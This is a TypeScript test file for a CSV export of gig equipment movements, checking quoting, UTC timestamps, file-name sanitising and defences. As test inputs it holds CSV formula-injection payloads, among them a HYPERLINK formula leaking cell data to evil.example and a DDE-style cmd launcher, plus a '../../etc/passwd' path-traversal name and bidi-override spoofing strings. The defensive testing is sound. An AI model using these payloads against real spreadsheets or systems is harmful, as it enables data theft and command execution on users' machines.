import { describe, expect, it } from 'vitest';
import type { GigMovement } from '../station-views';
import { csvText, movementsCsv, movementsFileName } from './movements-csv';

/** A reader as RFC 4180 defines the format (what a spreadsheet does), to read the export back. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  return rows;
}

const row = (over: Partial<GigMovement>): GigMovement => ({
  occurred_at: '2026-12-03T14:05:09.123+00:00',
  recorded_at: '2026-12-03T15:00:00+01:00',
  kind: 'check_in',
  item_kind: 'asset',
  item_name: 'Hazer',
  item_code: 'HAZE-1',
  quantity: 1,
  unit: null,
  gig_id: '00000000-0000-4000-9000-000000000001',
  gig_name: 'Main Stage',
  gig_code: 'GIG-000001',
  staff_name: 'Mika Moreau',
  device_id: 'station-1',
  condition: 'damaged',
  note: null,
  ...over,
});
const own = { id: 'pwa-me', name: 'Kim’s phone' };

describe('movementsCsv', () => {
  it('writes one line per movement in words, times in UTC, and reads back as what was stored', () => {
    const csv = movementsCsv(
      [
        row({}),
        row({
          kind: 'check_out',
          item_kind: 'bulk',
          item_name: 'XLR cable 10 m',
          item_code: 'BULK-XLR',
          quantity: 12,
          unit: 'pcs',
          condition: null,
          device_id: 'pwa-me',
          staff_name: 'Zoë Ångström',
        }),
      ],
      own,
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, first, second] = readCsv(csv.slice(1));
    expect(header?.[0]).toBe('Scanned at (UTC)');
    expect(first).toEqual([
      '2026-12-03T14:05:09Z',
      '2026-12-03T14:00:00Z',
      'Back',
      'Hazer',
      'HAZE-1',
      '1',
      '',
      'Main Stage (GIG-000001)',
      'Mika Moreau',
      'another station',
      'station-1',
      'Damaged',
      '',
    ]);
    expect(second?.slice(2, 11)).toEqual([
      'Out',
      'XLR cable 10 m',
      'BULK-XLR',
      '12',
      'pcs',
      'Main Stage (GIG-000001)',
      'Zoë Ångström',
      'this phone (Kim’s phone)',
      'pwa-me',
    ]);
  });

  it('keeps commas, quotes and line breaks inside their field', () => {
    const note = 'fan rattles, "loud"\r\nsecond line\nthird';
    const [, line] = readCsv(movementsCsv([row({ note, item_name: 'Desk, "Mk II"' })], own).slice(1));
    expect(line?.[12]).toBe(note);
    expect(line?.[3]).toBe('Desk, "Mk II"');
    expect(line).toHaveLength(13);
  });

  it('never lets a spreadsheet run a field as a formula, whoever typed it', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd',
      '\t=1+1',
      '\r=1+1',
    ]) {
      const [, line] = readCsv(movementsCsv([row({ note: attack, staff_name: attack, item_name: attack })], own).slice(1));
      for (const field of [line?.[3], line?.[8], line?.[12]]) {
        expect(field).toBe(`'${attack}`);
      }
    }
    expect(csvText('HAZE-1')).toBe('HAZE-1');
    expect(csvText(null)).toBe('');
  });
});

describe('movementsFileName', () => {
  it('names the file by the gig’s code and the day, with nothing a file system refuses', () => {
    const now = Date.parse('2026-12-03T10:00:00Z');
    expect(movementsFileName({ code: 'GIG-000001', name: 'x' }, now)).toBe('movements-GIG-000001-2026-12-03.csv');
    expect(movementsFileName({ code: null, name: '../../etc/passwd: Main/Stage *2*' }, now)).toBe(
      'movements-etc-passwd-Main-Stage-2-2026-12-03.csv',
    );
    expect(movementsFileName({ code: null, name: '///' }, now)).toBe('movements-gig-2026-12-03.csv');
  });
});

// Outside tester (issue 18, export): what a hostile note-typist and real-world names put first in a field.
describe('movementsCsv against shapes the first pass did not try', () => {
  it('guards a formula behind leading spaces, a line feed, a NUL or a no-break space, and full-width formula signs', () => {
    // ASVS 5.0 V1.2.10 names NUL as well; spreadsheets that trim cells on import (Google Sheets' "trim
    // whitespace", LibreOffice's "trim spaces") would run " =1+1", so the first visible character decides.
    for (const attack of [
      ' =1+1',
      '   +SUM(A1)',
      '\n=1+1',
      '\u0000=1+1',
      '\u00a0=1+1',
      '\u3000@SUM(1)',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(1)',
    ]) {
      const [, line] = readCsv(movementsCsv([row({ note: attack, staff_name: attack, item_name: attack })], own).slice(1));
      for (const field of [line?.[3], line?.[8], line?.[12]]) expect(field, JSON.stringify(attack)).toBe(`'${attack}`);
    }
  });

  it('leaves text that only looks odd alone: whitespace only, emoji, bidi text, line and paragraph separators', () => {
    for (const plain of ['   ', 'Hazer 🎛️', 'مكبر صوت', 'line\u2028sep\u2029para', 'Kim\u200dLee', "it's fine", '5 - 3']) {
      const [, line] = readCsv(movementsCsv([row({ note: plain })], own).slice(1));
      expect(line?.[12]).toBe(plain);
      expect(line).toHaveLength(13);
    }
  });

  it('shows a bidi override in a field as a visible mark instead of letting it reverse what follows', () => {
    // "Mika\u202Eexe.gnp" would read as "Mikapng.exe" in a viewer; U+2066–U+2069 and U+202A–U+202E
    // reorder text (Trojan Source, CVE-2021-42574). A spreadsheet cell shows them invisibly.
    const spoof = 'Mika \u202eniloM\u202c';
    const [, line] = readCsv(movementsCsv([row({ staff_name: spoof, note: 'x\u2066y\u2069' })], own).slice(1));
    expect(line?.[8]).toBe('Mika [U+202E]niloM[U+202C]');
    expect(line?.[12]).toBe('x[U+2066]y[U+2069]');
  });
});

describe('movementsFileName for gigs named in any script', () => {
  it('keeps letters and digits of every script, whole characters only, and still nothing a file system refuses', () => {
    const now = Date.parse('2026-12-03T10:00:00Z');
    expect(movementsFileName({ code: null, name: 'Fête d’été' }, now)).toBe('movements-Fête-d-été-2026-12-03.csv');
    expect(movementsFileName({ code: null, name: '東京ドーム 2027' }, now)).toBe('movements-東京ドーム-2027-2026-12-03.csv');
    // Decomposed accents (as macOS types them) become the composed letter, not a hyphen.
    expect(movementsFileName({ code: null, name: 'Fe\u0302te' }, now)).toBe('movements-Fête-2026-12-03.csv');
    // No bidi controls or zero-width characters reach a file name; 60 characters, never half of one.
    expect(movementsFileName({ code: null, name: 'a\u202eb\u200bc/..\\:*?"<>|' }, now)).toBe('movements-a-b-c-2026-12-03.csv');
    const long = movementsFileName({ code: null, name: '𠀀'.repeat(80) }, now);
    expect(long).toBe(`movements-${'𠀀'.repeat(60)}-2026-12-03.csv`);
    expect(/\p{Cs}/u.test(long)).toBe(false);
  });
});
